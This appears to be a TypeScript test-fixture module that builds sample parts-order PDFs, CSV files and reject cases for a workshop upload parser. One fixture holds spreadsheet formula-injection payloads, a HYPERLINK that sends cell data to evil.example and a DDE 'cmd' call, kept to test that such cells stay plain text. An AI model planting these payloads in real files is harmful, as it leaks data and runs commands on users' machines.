import { crc32, deflateSync } from 'node:zlib';
import { PDFDocument, type PDFFont, type PDFPage, StandardFonts } from 'pdf-lib';
import { ORDER_FILE_MAX_BYTES } from '../../common/upload/order-file';

/**
 * Order files as workshops receive them, generated so tests, the benchmark and the e2e test read
 * real bytes: a dealer's/DMS's printed PDF order, CSV exports in the German and the international
 * dialect, and files that must be refused. Everything is deterministic (no dates, no randomness).
 */

export type OrderLine = {
  position: string;
  partNumber: string;
  description: string;
  quantity: string;
  unit: string;
  unitPrice: string;
  total: string;
  /** A second description line, printed below the line as DMS print long texts. */
  descriptionMore?: string;
};

/** The lines of the two-page sample order, as the PDF prints them. */
export const sampleOrderLines: OrderLine[] = [
  ['1', '1K0 615 301 AA', 'Bremsscheibe belüftet vorne', '2', 'Stk', '45,90 €', '91,80 €'],
  ['2', '1K0 698 151 F', 'Bremsbelagsatz vorne', '1', 'Satz', '62,40 €', '62,40 €'],
  ['3', '03L 115 562', 'Ölfilter', '1', 'Stk', '9,85 €', '9,85 €'],
  ['4', 'G 052 195 M4', 'Motoröl 5W-30 Longlife', '1,5', 'l', '14,20 €', '21,30 €'],
  ['5', '5Q0 129 620 B', 'Luftfilter', '1', 'Stk', '18,75 €', '18,75 €'],
  ['6', '1K0 407 366 C', 'Gelenkwelle außen', '1', 'Stk', '1.234,56 €', '1.234,56 €'],
  ['7', 'N 911 455 02', 'Schraube M8x20 für Träger', '8', 'Stk', '0,95 €', '7,60 €'],
  ['8', '6R0 955 425', 'Wischblatt Satz', '1', 'Satz', '24,90 €', '24,90 €'],
  ['9', '04E 905 612 C', 'Zündkerze', '4', 'Stk', '11,30 €', '45,20 €'],
  ['10', 'JZW 698 151 AB', 'Bremsbelag hinten', '1', 'Satz', '39,99 €', '39,99 €'],
  ['11', '000 096 020 D', 'Kühlmittel G13', '2', 'l', '6,50 €', '13,00 €'],
  ['12', '1K0 121 113 B', 'Kühlmittelschlauch', '1', 'Stk', '27,45 €', '27,45 €'],
].map(([position, partNumber, description, quantity, unit, unitPrice, total]) => ({
  position: position ?? '',
  partNumber: partNumber ?? '',
  description: description ?? '',
  quantity: quantity ?? '',
  unit: unit ?? '',
  unitPrice: unitPrice ?? '',
  total: total ?? '',
  ...(position === '6' ? { descriptionMore: 'inkl. Schraubensatz' } : {}),
}));

export const pdfHeader = ['Pos', 'Artikelnummer', 'Bezeichnung', 'Menge', 'Einheit', 'Einzelpreis', 'Gesamt'];

/** The rows the parser must read from the sample PDF: quantities and units as separate columns. */
export function sampleOrderRows(lines: OrderLine[] = sampleOrderLines): string[][] {
  return lines.map((line) => [
    line.position,
    line.partNumber,
    line.descriptionMore ? `${line.description} ${line.descriptionMore}` : line.description,
    line.quantity,
    line.unit,
    line.unitPrice,
    line.total,
  ]);
}

/** Left edges of the columns (points); price columns are right-aligned to the next edge minus a gap. */
const columnLeft = [40, 70, 170, 330, 380, 430, 500];
const columnRight = [65, 165, 325, 370, 420, 490, 560];
const rightAligned = [false, false, false, true, false, true, true];

function drawRightAligned(page: PDFPage, font: PDFFont, text: string, right: number, y: number, size: number) {
  page.drawText(text, { x: right - font.widthOfTextAtSize(text, size), y, size, font });
}

/**
 * A printed order as a German parts dealer's or DMS's output looks: a letterhead, the customer's
 * address and order data above the table on every page, the table header repeated on each page,
 * a footer with "Seite n von m", the address and bank details, totals after the last line.
 */
export async function orderPdf(
  options: {
    lines?: OrderLine[];
    linesPerPage?: number;
    title?: string;
    withHeader?: boolean;
    /** Other labels for the header row (as many as `pdfHeader`). */
    header?: string[];
  } = {},
): Promise<Uint8Array> {
  const lines = options.lines ?? sampleOrderLines;
  const linesPerPage = options.linesPerPage ?? Math.ceil(lines.length / 2);
  const document = await PDFDocument.create();
  // Fixed dates keep the bytes stable between runs.
  document.setCreationDate(new Date('2026-11-02T08:00:00Z'));
  document.setModificationDate(new Date('2026-11-02T08:00:00Z'));
  const regular = await document.embedFont(StandardFonts.Helvetica);
  const bold = await document.embedFont(StandardFonts.HelveticaBold);
  const pageCount = Math.max(1, Math.ceil(lines.length / linesPerPage));
  const size = 9;
  for (let pageIndex = 0; pageIndex < pageCount; pageIndex++) {
    const page = document.addPage([595, 842]);
    page.drawText('Autoteile Müller GmbH', { x: 40, y: 800, size: 16, font: bold });
    page.drawText('Teilegroßhandel · Industriestraße 12 · 70565 Stuttgart', { x: 40, y: 784, size: 8, font: regular });
    page.drawText('Werkstatt Schmidt KG', { x: 40, y: 750, size: 10, font: regular });
    page.drawText('Hauptstraße 5, 73728 Esslingen', { x: 40, y: 738, size: 10, font: regular });
    page.drawText(options.title ?? 'Auftragsbestätigung Nr. 2026-10457', { x: 40, y: 705, size: 12, font: bold });
    page.drawText('Datum: 02.11.2026   Kunden-Nr.: 10233', { x: 360, y: 705, size: 9, font: regular });
    const headerY = 670;
    const header = options.withHeader === false ? [] : (options.header ?? pdfHeader);
    header.forEach((label, column) => {
      if (rightAligned[column]) drawRightAligned(page, bold, label, columnRight[column] ?? 0, headerY, size);
      else page.drawText(label, { x: columnLeft[column] ?? 0, y: headerY, size, font: bold });
    });
    page.drawLine({ start: { x: 40, y: headerY - 4 }, end: { x: 560, y: headerY - 4 }, thickness: 0.5 });
    const pageLines = lines.slice(pageIndex * linesPerPage, (pageIndex + 1) * linesPerPage);
    let y = headerY - 18;
    for (const line of pageLines) {
      const cells = [
        line.position,
        line.partNumber,
        line.description,
        line.quantity,
        line.unit,
        line.unitPrice,
        line.total,
      ];
      cells.forEach((text, column) => {
        if (rightAligned[column]) drawRightAligned(page, regular, text, columnRight[column] ?? 0, y, size);
        else page.drawText(text, { x: columnLeft[column] ?? 0, y, size, font: regular });
      });
      y -= 13;
      if (line.descriptionMore) {
        page.drawText(line.descriptionMore, { x: columnLeft[2] ?? 0, y, size: size - 1, font: regular });
        y -= 12;
      }
    }
    if (pageIndex === pageCount - 1) {
      y -= 8;
      page.drawText('Summe netto', { x: 380, y, size, font: bold });
      drawRightAligned(page, bold, '1.596,80 €', 560, y, size);
      y -= 13;
      page.drawText('zzgl. 19 % MwSt.', { x: 380, y, size, font: regular });
      drawRightAligned(page, regular, '303,39 €', 560, y, size);
    } else {
      page.drawText('Übertrag auf Seite', { x: 380, y: y - 8, size, font: regular });
    }
    page.drawText(`Seite ${pageIndex + 1} von ${pageCount}`, { x: 500, y: 60, size: 8, font: regular });
    page.drawText('Autoteile Müller GmbH · Industriestraße 12 · 70565 Stuttgart · Tel. 0711 123456', {
      x: 40,
      y: 45,
      size: 7,
      font: regular,
    });
    page.drawText('Kreissparkasse Esslingen · IBAN DE12 6115 0020 0000 1234 56 · BIC ESSLDE66XXX', {
      x: 40,
      y: 35,
      size: 7,
      font: regular,
    });
  }
  return document.save({ useObjectStreams: false });
}

/** `count` order lines with distinct part numbers, for the benchmark and the row limits. */
export function manyOrderLines(count: number): OrderLine[] {
  return Array.from({ length: count }, (_, index) => {
    const n = index + 1;
    const cents = 100 + ((n * 7919) % 99_900);
    const price = `${Math.floor(cents / 100)},${String(cents % 100).padStart(2, '0')} €`;
    return {
      position: String(n),
      partNumber: `${String(n % 1000).padStart(3, '0')} ${String((n * 37) % 1000).padStart(3, '0')} ${String(n % 997).padStart(3, '0')} A`,
      description: `Ersatzteil Nr. ${n} für Vorderachse`,
      quantity: String((n % 9) + 1),
      unit: 'Stk',
      unitPrice: price,
      total: price,
    };
  });
}

/** The German CSV dialect as a DMS exports it: `;`, decimal comma, Windows-1252, quoted text with `;`. */
export const germanCsvText = [
  'Artikelnummer;Bezeichnung;Menge;Einzelpreis',
  '1K0 615 301 AA;"Bremsscheibe; belüftet, vorne";2;45,90',
  '03L 115 562;Ölfilter;1;9,85',
  'G 052 195 M4;"Motoröl ""Longlife"" 5W-30";1,5;14,20',
  '1K0 407 366 C;Gelenkwelle außen, Größe ß;1;1.234,56',
  '000 096 020 D;Kühlmittel G13 €-Preis;2;6,50',
  '',
].join('\r\n');

export const germanCsvRows = [
  ['1K0 615 301 AA', 'Bremsscheibe; belüftet, vorne', '2', '45,90'],
  ['03L 115 562', 'Ölfilter', '1', '9,85'],
  ['G 052 195 M4', 'Motoröl "Longlife" 5W-30', '1,5', '14,20'],
  ['1K0 407 366 C', 'Gelenkwelle außen, Größe ß', '1', '1.234,56'],
  ['000 096 020 D', 'Kühlmittel G13 €-Preis', '2', '6,50'],
];

/** Windows-1252 bytes (the text only uses characters that exist there). */
export function windows1252(text: string): Uint8Array {
  const special: Record<string, number> = { '€': 0x80, '„': 0x84, '“': 0x93, '”': 0x94, '–': 0x96 };
  return Uint8Array.from(
    [...text].map((character) => {
      const code = special[character] ?? character.charCodeAt(0);
      if (code > 0xff) throw new Error(`${character} has no Windows-1252 byte here`);
      return code;
    }),
  );
}

export function germanCsv(): Uint8Array {
  return windows1252(germanCsvText);
}

/** The international dialect: `,`, decimal point, UTF-8 with a byte order mark, a multi-line quoted cell. */
export const internationalCsvText = [
  'Part number,Description,Qty,Unit price',
  '1K0 615 301 AA,"Brake disc, vented; front",2,45.90',
  '03L 115 562,Oil filter (Ölfilter),1,9.85',
  '5Q0 129 620 B,"Air filter',
  'second line",1,18.75',
  'JZW 698 151 AB,Straße € ß ä ö ü,1,1234.56',
].join('\n');

export const internationalCsvRows = [
  ['1K0 615 301 AA', 'Brake disc, vented; front', '2', '45.90'],
  ['03L 115 562', 'Oil filter (Ölfilter)', '1', '9.85'],
  ['5Q0 129 620 B', 'Air filter\nsecond line', '1', '18.75'],
  ['JZW 698 151 AB', 'Straße € ß ä ö ü', '1', '1234.56'],
];

export function utf8(text: string, withBom = false): Uint8Array {
  const body = new TextEncoder().encode(text);
  if (!withBom) return body;
  const bytes = new Uint8Array(body.length + 3);
  bytes.set([0xef, 0xbb, 0xbf]);
  bytes.set(body, 3);
  return bytes;
}

export function internationalCsv(): Uint8Array {
  return utf8(internationalCsvText, true);
}

/** Cells a spreadsheet would evaluate: they must come back verbatim, as text. */
export const formulaCsvText = [
  'Teilenummer;Bezeichnung;Menge',
  '"=HYPERLINK(""http://evil.example/?x=""&A1;""klick"")";Bremsscheibe;2',
  '+1K0 615 301;@SUM(A1:A2);-3',
  "1K0 698 151;=cmd|' /C calc'!A0;1",
].join('\n');

export const formulaCsvRows = [
  ['=HYPERLINK("http://evil.example/?x="&A1;"klick")', 'Bremsscheibe', '2'],
  ['+1K0 615 301', '@SUM(A1:A2)', '-3'],
  ['1K0 698 151', "=cmd|' /C calc'!A0", '1'],
];

/** A CSV with a header and `count` data rows (`;`, German). */
export function csvWithRows(count: number): Uint8Array {
  const rows = manyOrderLines(count).map((line) =>
    [line.position, line.partNumber, line.description, line.quantity, line.unitPrice].join(';'),
  );
  return utf8(['Pos;Artikelnummer;Bezeichnung;Menge;Preis', ...rows, ''].join('\n'));
}

export function tooLargeFile(): Uint8Array {
  const bytes = new Uint8Array(ORDER_FILE_MAX_BYTES + 1);
  bytes.fill(0x61); // 'a'
  return bytes;
}

/** A valid 8×8 grey PNG. */
export function tinyPng(): Uint8Array {
  const chunk = (type: string, data: Uint8Array) => {
    const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const checksum = Buffer.alloc(4);
    checksum.writeUInt32BE(crc32(typeAndData));
    return Buffer.concat([length, typeAndData, checksum]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(8, 0);
  header.writeUInt32BE(8, 4);
  header[8] = 8; // bit depth
  header[9] = 0; // greyscale
  const scanlines = Buffer.alloc(8 * 9);
  for (let row = 0; row < 8; row++) scanlines.fill(row * 30, row * 9 + 1, row * 9 + 9);
  return new Uint8Array(
    Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      chunk('IHDR', header),
      chunk('IDAT', deflateSync(scanlines)),
      chunk('IEND', new Uint8Array()),
    ]),
  );
}

/** A scanned order: two pages holding only an image, no text. */
export async function imagesOnlyPdf(): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const image = await document.embedPng(tinyPng());
  for (let index = 0; index < 2; index++) {
    const page = document.addPage([595, 842]);
    page.drawImage(image, { x: 40, y: 100, width: 515, height: 700 });
  }
  return document.save();
}

/**
 * A PDF encrypted with the standard security handler (RC4, revision 2) whose user password is not
 * empty: pdf-lib cannot encrypt, so the file is written by hand. The /O and /U entries do not
 * match the empty password, so a reader must ask for one (pdf.js: PasswordException).
 */
export function encryptedPdf(): Uint8Array {
  const hex32 = (seed: number) =>
    Array.from({ length: 32 }, (_, index) => ((seed + index * 53) % 256).toString(16).padStart(2, '0')).join('');
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
    '<< /Length 8 >>\nstream\n\x8a\x13\x07\xc2\x99\x01\x5e\x33\nendstream',
    `<< /Filter /Standard /V 1 /R 2 /O <${hex32(17)}> /U <${hex32(101)}> /P -44 >>`,
  ];
  let text = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((body, index) => {
    offsets.push(text.length);
    text += `${index + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) text += `${String(offset).padStart(10, '0')} 00000 n \n`;
  const id = '6f72646572206e722031303435372121';
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R /Encrypt 5 0 R /ID [<${id}> <${id}>] >>\nstartxref\n${xref}\n%%EOF\n`;
  return Uint8Array.from(text, (character) => character.charCodeAt(0));
}

/** A `%PDF-` header followed by garbage. */
export function brokenPdf(): Uint8Array {
  const bytes = new Uint8Array(2048);
  bytes.set(new TextEncoder().encode('%PDF-1.7\n'));
  for (let index = 9; index < bytes.length; index++) bytes[index] = (index * 131 + 7) % 256;
  return bytes;
}

/** A ZIP archive with one stored entry (an .xlsx or a mail attachment bundle looks like this). */
export function zipArchive(): Uint8Array {
  const name = Buffer.from('auftrag.csv', 'latin1');
  const content = Buffer.from('Artikelnummer;Menge\n1K0 615 301 AA;2\n', 'latin1');
  const checksum = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(10, 4);
  local.writeUInt32LE(checksum, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(10, 6);
  central.writeUInt32LE(checksum, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(name.length, 28);
  const centralOffset = local.length + name.length + content.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return new Uint8Array(Buffer.concat([local, name, content, central, name, end]));
}
